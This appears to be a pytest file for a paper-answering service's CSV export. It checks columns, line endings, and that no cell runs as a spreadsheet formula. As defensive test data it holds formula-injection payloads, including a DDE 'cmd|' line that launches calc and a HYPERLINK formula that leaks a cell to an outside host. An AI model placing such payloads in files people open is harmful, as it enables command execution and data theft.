"""answers.csv: its columns, and that no cell runs as a formula."""

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given
from hypothesis import strategies as st

from paperscope_core.types import Answer, Box, Claim, Context, Evidence, Exhibit, Finding, ImageFinding, Place, Usage
from service.batch import BatchRow, Gold
from service.batch.rows import image_name, render_csv

BOX = Box(1.0, 2.0, 3.0, 4.0)
TEXTS = st.text(st.characters(codec="utf-8"))
BEGINNINGS = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''=", "'-", "-5", "－", "\n", " @"])


def evidence(element: str, *, page: int = 4, box: Box = BOX, name: str = "") -> Evidence:
    paper, _, _ = element.partition("/")
    return Evidence(element=element, place=Place(paper=paper, page=page, box=box), quote="0.83", name=name)


def answer(text: str, *claims: Claim) -> Answer:
    table = evidence("aaaa/table-5")
    return Answer(
        question="F1?",
        status="answered",
        text=text,
        claims=claims,
        context=Context(),
        exhibits=(Exhibit(element=table.element, kind="table", place=table.place, label="Table 5"),),
        usage=Usage(calls=2, cached=1, prompt_tokens=700, completion_tokens=30, cost=0.25),
        confidence=0.5,
    )


def row(text: str = "0.83", *claims: Claim) -> BatchRow:
    return BatchRow(index=0, question="F1?", status="answered", answer=answer(text, *claims), seconds=1.2345)


def read(rows: list[BatchRow]) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render_csv(rows), newline=""), strict=True))


def taken_back(cell: str) -> str:
    """The text of a cell without the protecting apostrophe, as documented."""
    marked = re.match("'[\\s\x00-\x1f\ufeff']*[=+\\-@＝＋－＠﹦﹢﹣﹫]|'+[\t\r\n]", cell)
    return cell[1:] if marked else cell


def test_a_row_has_the_answer_its_citations_and_its_usage() -> None:
    table = evidence("aaaa/table-5", name="A Report (2024), Table 5, page 4")
    line = evidence("bbbb/passage-1", page=1, box=Box(0.0, 12.0, 0.0, 14.0))
    claims = (
        Claim(text="a", evidence=(table, evidence("aaaa/passage-1", page=2))),
        Claim(text="b", evidence=(table, line)),
    )
    scored = replace(row("0.83", *claims), gold=Gold(answer="0.830"), right=1.0)
    assert scored.answer is not None
    found = tuple(Finding(kind="note", message=message) for message in ("one", "two"))
    scored = replace(scored, answer=replace(scored.answer, findings=found))
    assert read([scored]) == [
        {
            "index": "0",
            "question": "F1?",
            "status": "answered",
            "answer": "0.83",
            "citations": "A Report (2024), Table 5, page 4; aaaa/passage-1, page 2; bbbb/passage-1, lines 12-14",
            "confidence": "0.5",
            "seconds": "1.234",
            "calls": "2",
            "cached": "1",
            "prompt_tokens": "700",
            "completion_tokens": "30",
            "cost": "0.25",
            "findings": "one; two",
            "error": "",
            "gold": "0.830",
            "right": "1.0",
        }
    ]


def test_an_error_has_a_row_that_says_why() -> None:
    [failed] = read([BatchRow(index=3, question="F1?", status="error", error="no connection")])
    assert (failed["index"], failed["status"], failed["error"]) == ("3", "error", "no connection")
    assert (failed["answer"], failed["confidence"], failed["right"], failed["calls"]) == ("", "", "", "0")


def test_lines_end_as_rfc_4180_has_it() -> None:
    text = render_csv([row('He said "a, b"\nand c')])
    assert text.count("\r\n") == 2
    assert '"He said ""a, b""\nand c"' in text


@pytest.mark.parametrize("cell", ["-5", "-0.53", "+3.1 %", "-1,234.5", "1e-5", "-1e-5", "-.5", "F1 = 0.83", "0.83", ""])
def test_numbers_and_plain_text_stay_as_they_are(cell: str) -> None:
    assert read([row(cell)])[0]["answer"] == cell


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://example.org?"&A1,"more")',
        "+1-2",
        "-2+3+cmd|' /C calc'!A0",
        "-5\n=1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
        "- a list",
    ],
)
def test_no_cell_runs_as_a_formula(cell: str) -> None:
    hostile = BatchRow(index=0, question=cell, status="error", error=cell, gold=Gold(answer=cell), answer=answer(cell))
    [found] = read([hostile])
    for column in ("question", "answer", "error", "gold"):
        assert found[column] == f"'{cell}"


def test_a_papers_name_does_not_run_either() -> None:
    [found] = read([row("x", Claim(text="a", evidence=(evidence("aaaa/table-5", name="=1, page 4"),)))])
    assert found["citations"] == "'=1, page 4"


@given(st.lists(st.builds(str.__add__, BEGINNINGS, TEXTS), min_size=1))
def test_every_cell_round_trips(cells: list[str]) -> None:
    found = read([row(cell) for cell in cells])
    assert [taken_back(line["answer"]) for line in found] == cells


def test_an_image_is_named_after_its_element_or_page() -> None:
    place = Place(paper="aaaa", page=4, box=BOX)
    crop = ImageFinding(element="aaaa/table-5", place=place, crop="ab", text="", relevant=True)
    assert image_name(crop) == "aaaa-table-5.png"
    assert image_name(replace(crop, element="aaaa/passage-1", crop="")) == "aaaa-page-4.png"
